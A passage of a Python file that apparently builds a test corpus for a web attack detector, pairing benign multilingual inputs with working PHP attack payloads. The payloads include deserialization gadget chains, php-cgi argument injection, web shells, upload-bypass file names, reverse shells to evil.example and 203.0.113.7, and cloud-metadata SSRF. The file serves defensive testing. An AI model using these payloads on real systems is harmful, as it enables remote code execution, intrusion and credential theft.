    'r\\Generator":1:{s:13:"\x00*\x00formatters";a:1:{s:5:"close";a:2:{i:0;O:21:"yii\\rest\\CreateActio'
    'n":2:{s:11:"checkAccess";s:6:"system";s:2:"id";s:2:"id";}i:1;s:3:"run";}}}}')
YII_S = (
    'O:23:"yii\\db\\BatchQueryResult":1:{S:36:"\\00yii\\5cdb\\5cBatchQueryResult\\00_dataReader";O:15:"'
    'Faker\\Generator":1:{S:13:"\\00*\\00formatters";a:1:{s:5:"close";a:2:{i:0;O:21:"yii\\rest\\CreateA'
    'ction":2:{s:11:"checkAccess";s:6:"system";s:2:"id";s:2:"id";}i:1;s:3:"run";}}}}')
JOOMLA = (
    '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\x00\x00\x00di'
    'sconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":'
    '0:{}s:8:"feed_url";s:60:"eval(base64_decode($_POST[111]));JFactory::getConfig();exit;";s:19:"cache'
    '_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i'
    ':1;s:4:"init";}}s:13:"\x00\x00\x00connection";b:1;}\U0001d306')
MONOLOG = (
    'O:32:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferH'
    'andler":7:{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{'
    'i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:'
    '"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}')
DRUPAL_GUZZLE = (
    'O:24:"GuzzleHttp\\Psr7\\FnStream":2:{s:33:"\x00GuzzleHttp\\Psr7\\FnStream\x00methods";a:1:{s:5:"cl'
    'ose";a:2:{i:0;O:23:"GuzzleHttp\\HandlerStack":3:{s:32:"\x00GuzzleHttp\\HandlerStack\x00handler";s:'
    '2:"id";s:30:"\x00GuzzleHttp\\HandlerStack\x00stack";a:1:{i:0;a:1:{i:0;s:6:"system";}}s:31:"\x00Guz'
    'zleHttp\\HandlerStack\x00cached";b:0;}i:1;s:7:"resolve";}}s:9:"_fn_close";a:2:{i:0;r:4;i:1;s:7:"re'
    'solve";}}')
GUZZLE_WRITE = (
    'O:31:"GuzzleHttp\\Cookie\\FileCookieJar":4:{s:36:"\x00GuzzleHttp\\Cookie\\CookieJar\x00cookies";a:'
    '1:{i:0;O:27:"GuzzleHttp\\Cookie\\SetCookie":1:{s:33:"\x00GuzzleHttp\\Cookie\\SetCookie\x00data";a:'
    '3:{s:7:"Expires";i:1;s:7:"Discard";b:0;s:5:"Value";s:25:"<?php system($_GET[0]);?>";}}}s:39:"\x00G'
    'uzzleHttp\\Cookie\\CookieJar\x00strictMode";N;s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filen'
    'ame";s:19:"/var/www/html/s.php";s:52:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies'
    '";b:1;}')
WORDPRESS = (
    'C:33:"Requests_Utility_FilteredIterator":66:{x:i:0;a:1:{i:0;s:2:"id";};m:a:1:{s:11:"\x00*\x00callb'
    'ack";s:6:"system";}}')
SYMFONY_DELETE = (
    'O:44:"Symfony\\Component\\Process\\Pipes\\WindowsPipes":1:{s:51:"\x00Symfony\\Component\\Process\\'
    'Pipes\\WindowsPipes\x00files";a:1:{i:0;s:23:"/var/www/html/.htaccess";}}')
USER_ADMIN = 'O:4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}'
OBJECT_INJECTION: list[Entry] = [
    LARAVEL,
    LARAVEL_S,
    LARAVEL.replace("Illuminate\\Broadcasting\\PendingBroadcast", "iLLuminate\\bROADCASTING\\pendingbroadcast")
    .replace("Faker\\Generator", "FAKER\\generator"),
    'C:11:"ArrayObject":201:{x:i:0;' + LARAVEL_S + ';m:a:0:{}}',
    base64.b64encode(LARAVEL.encode()).decode(),
    YII,
    YII_S,
    JOOMLA,
    MONOLOG,
    "a:2:{i:7;" + MONOLOG + "i:7;i:7;}",
    DRUPAL_GUZZLE,
    GUZZLE_WRITE,
    WORDPRESS,
    SYMFONY_DELETE,
    # the application's own User class: property-oriented privilege escalation
    USER_ADMIN,
    USER_ADMIN.replace("O:4:", "O:+4:"),
    'a:1:{i:0;O:4:"User":1:{s:7:"isAdmin";b:1;}}',
    base64.b64encode(USER_ADMIN.encode()).decode(),
    # loose comparison of an unserialized array: true == "any password"
    'a:2:{s:8:"username";s:5:"admin";s:8:"password";b:1;}',
    (json.dumps({"prefs": LARAVEL}),) + JB,
    (json.dumps({"session": YII, "remember": True}),) + JB,
    (json.dumps({"cart": MONOLOG}),) + JB,
]

# php-config-directives. php-cgi argument injection (CVE-2012-1823: a query string without '=' becomes php-cgi's
# command line; CVE-2024-4577: on Windows code pages the soft hyphen 0xAD becomes '-'), sent as the raw query:
PHP_CGI: list[Entry] = [
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",) + CGI,
    ("-d+allow_url_include%3don+-d+safe_mode%3doff+-d+suhosin.simulation%3don+-d+disable_functions%3d%22%22+-d+"
     "open_basedir%3dnone+-d+auto_prepend_file%3dphp://input+-n",) + CGI,
    ("-dallow_url_include%3d1+-dauto_prepend_file%3dphp://input",) + CGI,
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3ddata:,%3C%3Fphp%20system(%22id%22)%3B%3F%3E",) + CGI,
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://evil.example/s.txt",) + CGI,
    ("-d+auto_prepend_file%3d/proc/self/environ",) + CGI,
    ("-s",) + CGI,
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",) + CGI,
    ("%ADd+cgi.force_redirect%3d0+%ADd+cgi.redirect_status_env%3d0+%ADd+allow_url_include%3d1+%ADd+"
     "auto_prepend_file%3dphp://input",) + CGI,
]
# ... and directives an upload or a file write plants (.user.ini for PHP-FPM/CGI, .htaccess for Apache mod_php), and
# ini_set() from an eval() sink (error_log is PHP_INI_ALL; the open_basedir '..' walk works up to PHP 8.0; LD_PRELOAD
# through putenv() and mail())
CONFIG: list[Entry] = PHP_CGI + [
    ("auto_prepend_file=/var/www/html/uploads/avatar.gif",) + KV,
    ("auto_append_file=avatar.gif",) + KV,
    "php_value auto_prepend_file /var/www/html/uploads/shell.jpg",
    "php_value auto_append_file .htaccess\n#<?php system($_GET['c']);?>",
    "php_flag engine on",
    "AddType application/x-httpd-php .jpg",
    "AddHandler application/x-httpd-php .gif",
    '<FilesMatch "\\.png$">\nSetHandler application/x-httpd-php\n</FilesMatch>',
    "ini_set('error_log','/var/www/html/x.php');error_log('<?php system($_GET[0]);?>');",
    "mkdir('x');chdir('x');ini_set('open_basedir','..');chdir('..');chdir('..');chdir('..');"
    "ini_set('open_basedir','/');echo file_get_contents('/etc/passwd');",
    "ini_set('include_path','/tmp');include 'sess_attacker';",
    "putenv('LD_PRELOAD=/var/www/html/uploads/x.so');mail('a@example.org','','','');",
    "ini_set('session.save_path','/var/www/html');session_start();$_SESSION['x']='<?php system($_GET[0]);?>';",
]

# superglobals (PHP eval() sinks and one-line shells that take the command from $_GET/$_POST/$_COOKIE/$_SERVER/
# $GLOBALS, and parameter pollution that overwrites superglobals where the app runs extract($_REQUEST),
# parse_str($qs) without a result array (PHP < 8) or register_globals (PHP < 5.4))
SUPERGLOBALS: list[Entry] = [
    "$GLOBALS['_GET'][0]($GLOBALS['_GET'][1]);",
    "eval($_POST['x']);",
    "assert($_REQUEST['x']);",
    "eval(end($_POST));",
    "include($_FILES['f']['tmp_name']);",
    "system($_SERVER['HTTP_X_CMD']);",
    "eval($_SERVER['HTTP_USER_AGENT']);",
    "system(getenv('HTTP_X_CMD'));",
    "echo file_get_contents($_COOKIE['f']);",
    "eval(hex2bin($_COOKIE['h']));",
    "$_COOKIE['a']($_COOKIE['b']);",
    "@$_SERVER['HTTP_A']($_SERVER['HTTP_B']);",
    "print_r($_SERVER);",
    "var_dump($_ENV);",
    "${@eval($_POST['c'])}",
    "{${eval($_POST[0])}}",
    "echo `{$_REQUEST['c']}`;",
    # PHP < 8 curly-brace offsets; the superglobal's name from pieces
    "$_GET{0}($_GET{1});",
    "${'_'.'POST'}[0](${'_'.'POST'}[1]);",
    ("_SESSION[is_admin]=1",) + CGI,
    ("GLOBALS[_SESSION][user]=admin",) + CGI,
    ("_SERVER[DOCUMENT_ROOT]=http://evil.example/",) + CGI,
    ("_SERVER[REMOTE_ADDR]=127.0.0.1",) + KV,
    ("_FILES[f][tmp_name]=/etc/passwd",) + KV,
    ("GLOBALS[admin]=1",) + PN,
    (r'{"code":"\u0024_GET[0](\u0024_GET[1]);"}',) + JB,
]

# php-file-upload (PHP behind Apache mod_php/AddHandler, PHP-FPM, IIS and Windows file systems): names the server
# still runs as PHP after the upload filter: alternative extensions, case, double extensions, NUL and %00 cuts, IIS
# ';', Windows trailing dots/spaces and ::$DATA, .htaccess/.user.ini, traversal, strip-once filters, NFKC fullwidth,
# and RFC 5987 filename* that the framework prefers over filename
UPLOAD: list[Entry] = [
    ("shell.php",) + UP,
    ("shell.pHp",) + UP,
    ("SHELL.PHP5",) + UP,
    ("shell.php3",) + UP,
    ("shell.php4",) + UP,
    ("shell.php7",) + UP,
    ("shell.phtml",) + UP,
    ("shell.pht",) + UP,
    ("shell.phar",) + UP,
    ("shell.Phar",) + UP,
    ("shell.php.jpg",) + UP,
    ("avatar.jpg.php",) + UP,
    ("image.gif.phtml",) + UP,
    ("shell.php%00.jpg",) + UP,
    ("shell.php\x00.jpg",) + UP,
    ("shell.php;.jpg",) + UP,
    ("shell.php.",) + UP,
    ("shell.php....",) + UP,
    ("shell.php ",) + UP,
    ("shell.php::$DATA",) + UP,
    (".htaccess",) + UP,
    (".user.ini",) + UP,
    ("../../var/www/html/shell.php",) + UP,
    ("..%2f..%2fshell.php",) + UP,
    ("shell.pphphp",) + UP,
    ("shell.\uff50\uff48\uff50",) + UP,
    ("filename*=UTF-8''shell.php",) + UP,
    ("filename*=UTF-8''avatar%2Ephtml",) + UP,
]

# php-high-risk-function-names (PHP eval() sinks and shells): source and file disclosure, file writes and copies,
# reverse shells, extension loading, FFI, the imap_open ProxyCommand (CVE-2018-19518), SSRF to cloud metadata, and
# the decoders a payload hides behind (base64, gzuncompress, gzinflate, str_rot13, hex2bin, strrev, urldecode)
HIGH_RISK: list[Entry] = [
    "phpinfo();",
    "show_source('config.php');",
    "highlight_file('/etc/passwd');",
    "echo file_get_contents('/etc/passwd');",
    "readfile('/etc/passwd');",
    "(new SplFileObject('/etc/passwd'))->fpassthru();",
    "var_dump(scandir('/'));",
    "foreach(new DirectoryIterator('glob:///var/www/*') as $f)echo $f,PHP_EOL;",
    "file_put_contents('x.php',base64_decode('PD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg=='));",
    "fwrite(fopen('s.php','w'),'<?php system($_GET[0]);');",
    "copy('http://evil.example/s.txt','s.php');",
    "move_uploaded_file($_FILES['f']['tmp_name'],'s.php');",
    "$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
    "$sock=fsockopen('evil.example',4444);proc_open('/bin/sh -i',[0=>$sock,1=>$sock,2=>$sock],$pipes);",
    "dl('exploit.so');",
    "FFI::cdef('int system(const char *command);')->system('id');",
    'imap_open("{x -oProxyCommand=echo\\taWQ+L3RtcC94|base64\\t-d|sh}:143/imap}INBOX","","");',
    "curl_exec(curl_init('http://169.254.169.254/latest/meta-data/iam/security-credentials/'));",
    "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
    "eval(gzuncompress(base64_decode('eJwrriwuSc3VUMpMUdK0BgAicgRD')));",
    "eval(gzinflate(base64_decode('K64sLknN1VCJd3cNiTaI1bQGAA==')));",
    "eval(str_rot13('flfgrz(\"vq\");'));",
    "eval(hex2bin('73797374656d2822696422293b'));",
    "eval(strrev(';)\"di\"(metsys'));",
    "assert(urldecode('%73%79%73%74%65%6d%28%22%69%64%22%29'));",
    (r'{"code":"\u0065val(base64_decode(\u0027c3lzdGVtKCJpZCIpOw==\u0027));"}',) + JB,
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT),
    ("xss", "event-handler", EVENT),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JSURI),
    ("xss", "html-injection", HTMLINJ),
    ("xss", "svg-mathml", SVG),
    ("xss", "css-expression", CSS),
    ("xss", "template-literal-dom-sink", DOMSINK),
    ("xss", "ie-filter-style", IE),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-client-template", TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
# raw entries: php-cgi argument strings and superglobal-overwriting pairs go unquoted where they are written
RAW_SUBS = {"php-config-directives", "superglobals"}
LATIN = {"\xbcscript\xbealert(\xa2XSS\xa2)\xbc/script\xbe"}   # bytes, not characters (the US-ASCII page)
CGI_PATHS = ["/index.php", "/cgi-bin/php-cgi", "/php-cgi/php-cgi.exe"]
UPLOAD_BODIES = {
    ".htaccess": "AddType application/x-httpd-php .jpg\n",
    ".user.ini": "auto_prepend_file=avatar.jpg\n",
}
SHELL = "GIF89a\n<?php system($_GET['c']); ?>\n"


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_SUBS
    # a raw payload keeps its own percent-escapes and '+' (php-cgi arguments are already URL-encoded)
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+"
    raw_places = ("query", "rs-query", "form", "rs-raw-body", "param-name", "rs-param-name")
    upload = "GIF89a\n"
    unique = True
    xss_names = ["q", "name", "bio", "website", "comment", "title", "message", "callback", "redirect", "avatar_url"]
    php_names = ["page", "file", "cmd", "code", "template", "include", "lang", "data", "prefs", "q"]
    path_forbids = "/?#"
    raw_body_forbids = "&+%"
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = self.xss_names if category == "xss" else self.php_names
        return names[k % len(names)]

    def rs_path(self, category: str, sub: str, k: int) -> str:
        if sub == "php-config-directives":
            return CGI_PATHS[k % len(CGI_PATHS)]
        return super().rs_path(category, sub, k)

    def is_latin(self, sub: str, payload: str) -> bool:
        return payload in LATIN

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        """Fixed entries of the raw families (php-cgi argument strings need no '='), never a JSON document."""
        return fixed and sub in self.raw_subs and not payload.startswith("{")

    def upload_body(self, filename: str) -> str:
        """A PHP upload name carries the GIF-prefixed web shell (.htaccess and .user.ini their directive)."""
        if filename in UPLOAD_BODIES:
            return UPLOAD_BODIES[filename]
        return SHELL if filename in UPLOAD_NAMES else self.upload


UPLOAD_NAMES = {entry[0] for entry in UPLOAD if isinstance(entry, tuple)}
SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same syntax where users of this product really type it (Slack chat and bios from engineers, support and
# the Tokyo and Shanghai offices, with Slack's own &amp;/&lt;/&gt; escaping, HTML entities pasted from rich text,
# fullwidth characters from Japanese and Chinese input methods, emoji, code snippets, formulas), searches, links with
# percent-encoding, admin-panel searches, profiles, upload names, ordinary headers, and JSON bodies whose non-ASCII
# text a client library sent as \u escapes
CHAT = [
    # engineers
    "deploy of the marketing site is done, the hero image finally loads on Safari \U0001f389",
    "the email template shows &lt;br&gt; literally, I think we double-escape it somewhere",
    "use &lt;details&gt; for the FAQ section, no JS needed",
    "if x &lt; 10 and y &gt; 3 the alert fires, otherwise nothing happens",
    "rule of thumb for the API: p95 < 300ms and error rate < 0.1%",
    "in Vue you write {{ user.name }} in the template and it escapes the value for you",
    "in the Angular app the greeting is `Hello {{ name }}`, interpolation is sanitized",
    "JS tip: template literals like `Hello ${name}` read better than string concatenation",
    "don't use innerHTML for user content, textContent is fine and safer",
    "the React component only uses dangerouslySetInnerHTML for the sanitized markdown",
    "the CMS stores rich text as HTML, e.g. <p>Hello <em>world</em></p>, and we sanitize on render",
    "who owns the style guide? the <button> colours don't match the Figma file",
    "the search results highlight matches with <mark> now, looks nice",
    "the onclick handler on the Save button was missing, fixed in #4821",
    "we removed the onerror fallback image, the CDN handles missing avatars now",
    "script tags in the email template get stripped by Gmail anyway, use plain links",
    "the javascript: links in the old wiki export were dropped by the migration",
    "the data: URLs for icons made the CSS 400KB, switching back to an SVG sprite",
    "CSP report-only is live on the admin panel, check the violations dashboard",
    "XSS training next Tuesday, the security team will show why we escape output",
    "angular.js 1.x went end of life in 2021, the old dashboard still runs on it",
    "the URL has a fragment like #section-2, the server never sees that part",
    "PHP 8.3 upgrade on the billing box went fine, composer update took forever",
    "the legacy admin still has &lt;?php echo $title; ?&gt; in a few templates, moving them to Twig",
    "php.ini on staging has memory_limit = 512M now, it was 128M",
    "upload_max_filesize is 20M, that's why the big CSV import failed",
    "composer says ext-intl is missing but php -m lists it, any ideas?",
    "the laravel queue worker restarted, jobs are flowing again",
    "WordPress plugin update broke the contact form, rolled back to 5.8.2",
    "onboarding doc says run php artisan migrate --seed on a fresh checkout",
    "we store prefs as JSON now, no more PHP serialize() in cookies",
    "the phpMyAdmin instance is gone, use the read-only replica instead",
    "the phar archive for the CLI tool is on the releases page",
    "eval in the config loader was replaced by json.loads, much safer",
    "grep -r \"TODO\" src/ | wc -l says 214, we have work to do",
    "use 2>&1 to capture stderr in the cron log",
    "wrote a regex for the badge id: ^[A-Z]{2}\\d{4}$",
    "the JSON export escapes non-ASCII as \\u00e9 and so on, that's Python's json.dumps default",
    "Zo\u00eb's name showed up as Zo\\u00eb in the CSV, fixed the encoding on export",
    "the old system HTML-encoded everything, the CSV is full of &amp;amp; and &amp;#39;",
    "search the logs for caf%C3%A9, that's caf\u00e9 percent-encoded",
    "checked the access logs, lots of %20 and %2F in the paths, all normal client encoding",
    "the report link is https://app.example.com/reports?from=2024-06-01&amp;to=2024-06-30",
    "iOS sends names NFC-normalized, Android sometimes NFD, both display fine now",
    "template literals in the email builder: ${firstName} is replaced server-side",
    "the expression parser supports a + b * c with the usual precedence",
    # formulas and quoted prose
    "formula for the SLA credit: credit = (1 - uptime / 99.9) * monthly_fee",
    "the ratio is a/b where b > 0, otherwise we return NaN",
    "math check: (a + b)\u00b2 = a\u00b2 + 2ab + b\u00b2, so the estimate holds",
    "Pythagoras for the maps widget: c = \u221a(a\u00b2 + b\u00b2)",
    "the discount is 15% off if the total is >= 100\u20ac",
    "as the customer wrote: \u201cthe bot said \u2018weather unavailable\u2019 three times\u201d",
    # support, the bot, other offices
    "Tom &amp; Jerry marathon at the office Friday, bring snacks \U0001f37f",
    "pasted from the doc: Q3 goals &mdash; ship the new directory, cut p95 below 300&nbsp;ms",
    "\u6771\u4eac\u30aa\u30d5\u30a3\u30b9\u306e\u7686\u3055\u3093\u3001\u6765\u9031\u306e\u4f1a\u8b70\u306f\uff08"
    "\u706b\uff09\uff11\uff10\uff1a\uff10\uff10\u304b\u3089\u3067\u3059",
    "\u8bf7\u628a\u5468\u62a5\u53d1\u5230\u7fa4\u91cc\uff0c\u622a\u6b62\u65f6\u95f4\u662f\u5468\u4e94\u4e0b\u5348"
    "\uff15\u70b9\uff01",
    "\u4eca\u65e5\u306e\u30e9\u30f3\u30c1\u306f\uff11\uff12\uff1a\uff13\uff10\u96c6\u5408\u3067\u304a\u9858\u3044"
    "\u3057\u307e\u3059\U0001f363",
    "\u4f1a\u8b70\u5ba4\uff21\u306f\u4f7f\u7528\u4e2d\u3067\u3059\u3002\uff22\u3092\u4e88\u7d04\u3057\u307e\u3057"
    "\u305f",
    "the Japanese keyboard types fullwidth digits like \uff11\uff12\uff13, we normalise them to 123 now",
    "Chinese users type \uff08\uff09and \uff0c in addresses, the parser handles both",
    "\uff7a\uff70\uff8b\uff70\uff8c\uff9e\uff9a\uff72\uff78 15:00\u301c (half-width katakana from the old POS "
    "export, lol)",
    "weather \u6771\u4eac tomorrow",
    "remember location Z\u00fcrich",
    "weather S\u00e3o Paulo tomorrow",
    "can the bot show \u2103 for the Tokyo office? \u6771\u4eac\u306f\u6442\u6c0f\u3067",
    "the bot said 18\u00b0C \u2600\ufe0f in Lisbon, meanwhile 9\u00b0C \U0001f327\ufe0f here",
    "\uae40\ubbfc\uc218 joined the team today, say hi \U0001f44b",
    "r\u00e9union \u00e0 14h, salle \u00ab Atlas \u00bb",
    "\u00bfAlguien sabe si ma\u00f1ana hay reuni\u00f3n? \U0001f914",
    "the \u20ac sign broke the PDF export because of latin-1, switched to UTF-8",
    "emoji reactions in the digest render as :tada: instead of \U0001f389, bug filed",
    "the alt text for the logo is empty, screen readers skip it",
    "system maintenance window is Sunday 02:00-04:00 UTC",
    "exec summary for the quarter: revenue up 12%, churn down",
    "include the ticket number in the commit message please",
    # bios
    "Frontend engineer. Vue, TypeScript, accessibility nerd \u267f",
    "PHP developer since 5.2, these days mostly Laravel and Symfony",
    "\u6771\u4eac\u30aa\u30d5\u30a3\u30b9\u30fb\u30a4\u30f3\u30d5\u30e9\u30c1\u30fc\u30e0\u3000\u3088\u308d\u3057"
    "\u304f\u304a\u9858\u3044\u3057\u307e\u3059",
    "\u4e0a\u6d77\u56e2\u961f\u4ea7\u54c1\u7ecf\u7406\uff0c\u8d1f\u8d23\u7528\u6237\u76ee\u5f55",
    "Security engineer: XSS, CSP, and teaching people to escape output",
    "Support lead \U0001f3a7 EN/\u65e5\u672c\u8a9e/\u4e2d\u6587",
]

SEARCHES = [
    "jos\u00e9", "m\u00fcller", "\u6771\u4eac", "\u5c71\u7530", "\u738b\u4f1f", "zo\u00eb", "o'neil", "script",
    "alert", "javascript", "php", "laravel", "vue", "angular", "svg", "style", "iframe",
    "\uff54\uff41\uff4e\uff41\uff4b\uff41", "\uff11\uff12\uff13", "caf\u00e9", "&", "tom & jerry", "a<b", "c++",
    "c#", "<3", ":)", "\U0001f389", "100%", "50% off", "eval team", "system admin", "onboarding", "frontend",
    "data", "expression", "template", "filter", "upload", "\u30c7\u30b6\u30a4\u30f3",
]

URLS = [
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC",
    "https://zh.wikipedia.org/wiki/%E4%B8%8A%E6%B5%B7",
    "https://www.google.com/search?q=vue+v-html+sanitize",
    "https://developer.mozilla.org/en-US/docs/Web/HTML/Element/script",
    "https://developer.mozilla.org/en-US/docs/Web/API/Element/innerHTML#security_considerations",
    "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Template_literals",
    "https://www.php.net/manual/en/function.htmlspecialchars.php",
    "https://www.php.net/manual/en/wrappers.php.php",
    "https://www.php.net/manual/en/function.unserialize.php",
    "https://owasp.org/www-community/attacks/xss/",
    "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
    "https://angular.io/guide/security#sanitization-and-security-contexts",
    "https://vuejs.org/guide/best-practices/security.html",
    "https://laravel.com/docs/11.x/blade#displaying-data",
    "https://maps.example.com/search/Caf%C3%A9+de+Flore,+Paris",
    "https://example.com/files/Report%20Q2%20(final).pdf",
    "https://app.example.com/users?name=Jos%C3%A9%20M%C3%BCller&page=2",
    "https://shop.example.jp/item?id=12345&ref=%E3%83%A1%E3%83%BC%E3%83%AB",
    "https://unicode.org/reports/tr15/#Norm_Forms",
    "https://emojipedia.org/party-popper",
]

PROSE = [
    "Jos\u00e9 M\u00fcller", "\u5c71\u7530 \u592a\u90ce", "\u738b\u4f1f", "Zo\u00eb O'Neil", "Tom & Jerry Ltd",
    "AT&T contractors", "R&D team", "\uff54\uff41\uff4e\uff41\uff4b\uff41", "\uff2d\uff41\uff52\uff49\uff41",
    "frontend team (Vue/Angular)", "PHP guild", "Q&A leads", "C++ / C# developers", "price < 100",
    "score >= 90", "1/2 day off", "50% remote", "caf\u00e9 staff", "na\u00efve Bayes reading group",
    "\u6771\u4eac\u30aa\u30d5\u30a3\u30b9", "\u4e0a\u6d77\u56e2\u961f", "\uae40\ubbfc\uc218", "system administrators",
    "template designers", "data & analytics", "expression of interest list", "eval committee",
    "include contractors", "filter by team: infra", "upload failures last week", "\U0001f382 birthday list",
    "\u00abAtlas\u00bb room bookings", "the \u201cquoted\u201d names import", "script writers guild",
    "style & brand team",
]

PROFILES = [
    ("Jos\u00e9 M\u00fcller", "Karl-Marx-Allee 34, Berlin"),
    ("\u5c71\u7530 \u592a\u90ce", "\u6771\u4eac\u90fd\u5343\u4ee3\u7530\u533a\u4e38\u306e\u5185\uff11\u2212\uff11"),
    ("\u738b\u4f1f", "\u4e0a\u6d77\u5e02\u6d66\u4e1c\u65b0\u533a\u4e16\u7eaa\u5927\u9053\uff11\uff10\uff10\u53f7"),
    ("Zo\u00eb O'Neil", "12 Grafton St, Dublin"),
    ("Tom & Jerry Ltd", "5 Cartoon Way, Leeds"),
    ("\uae40\ubbfc\uc218", "\uc11c\uc6b8\ud2b9\ubcc4\uc2dc \uac15\ub0a8\uad6c \ud14c\ud5e4\ub780\ub85c 152"),
    ("Fran\u00e7ois Lef\u00e8vre", "8 rue de l'\u00c9glise, Lyon"),
    ("\uff2d\uff41\uff52\uff49\uff41 \uff33\uff49\uff4c\uff56\uff41", "Rua das Flores 7, Porto"),
    ("Bj\u00f6rk Gu\u00f0mundsd\u00f3ttir", "Laugavegur 22, Reykjav\u00edk"),
    ("Script Studios", "Broadway 1440, New York"),
    ("Angular Dental", "Main St 3, Springfield"),
    ("Vue Optics", "Seestra\u00dfe 9, Z\u00fcrich"),
    ("Alert Security GmbH", "Hafenstra\u00dfe 2, Hamburg"),
    ("R&D Lab (North)", "Innovation Park 4, Oulu"),
    ("Expression Dance School", "Calle Mayor 12, Madrid"),
    ("\u7530\u4e2d \u5065", "\u5927\u962a\u5e9c\u5927\u962a\u5e02\u5317\u533a\u6885\u7530\uff13\u2212\uff11"),
    ("Dr. Ay\u015fe Y\u0131lmaz", "\u0130stiklal Cd. 45, \u0130stanbul"),
    ("Data & Eval Consulting", "Rue Neuve 3, Brussels"),
    ("Phar Lap Stables", "Flemington Rd 1, Melbourne"),
    ("Caf\u00e9 \u00ab Le Style \u00bb", "Place du March\u00e9 2, Gen\u00e8ve"),
]

UPLOAD_FILES = [
    "\u30b9\u30af\u30ea\u30fc\u30f3\u30b7\u30e7\u30c3\u30c8 2024-06-01 10.15.32.png",
    "\u62a5\u544a\uff08\u6700\u7ec8\u7248\uff09.docx", "Jos\u00e9 M\u00fcller - CV.pdf",
    "users_\u6771\u4eac.csv", "Tom & Jerry invoice #42.pdf", "r\u00e9sum\u00e9 (1).pdf",
    "team-photo \U0001f389.jpg", "logo.svg", "phpinfo-screenshot.png", "export (2024-06-30).csv",
    "Q2 report \u2013 final.pdf", "directory_import_2024.xlsx", "signature.gif", "template.docx", "data.json",
    "photo.jpeg", "manual_v1.2.pdf", "\u55b6\u696d\u90e8\u30ea\u30b9\u30c8.xlsx", "style-guide.pdf",
    "onboarding_checklist.md",
]

BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.5 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148 Line/14.9.0"),
    ("User-Agent", "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/126.0.0.0 Mobile Safari/537.36"),
    ("User-Agent", "GuzzleHttp/7"),
    ("User-Agent", "axios/1.7.2"),
    ("Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8,en;q=0.7"),
    ("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.8"),
    ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    ("Referer", "https://www.google.co.jp/search?q=%E5%A4%A9%E6%B0%97+%E6%9D%B1%E4%BA%AC"),
    ("Referer", "https://app.example.com/admin/users?q=Jos%C3%A9"),
    ("Referer", "https://www.baidu.com/s?wd=%E7%94%A8%E6%88%B7%E7%9B%AE%E5%BD%95"),
    ("Referer", "https://app.example.com/help/articles/templates#variables"),
    ("Cookie", "session=abc123; locale=ja_JP; tz=Asia%2FTokyo"),
    ("Cookie", "session=abc123; last_search=caf%C3%A9; theme=dark"),
    ("Cookie", "session=abc123; recent=%5B%22tokyo%22%2C%22shanghai%22%5D"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Request-Id", "7d2e9b14-0c3a-4f55-8a61-2b9e4c1d6f03"),
    ("If-Modified-Since", "Sat, 01 Jun 2024 10:15:32 GMT"),
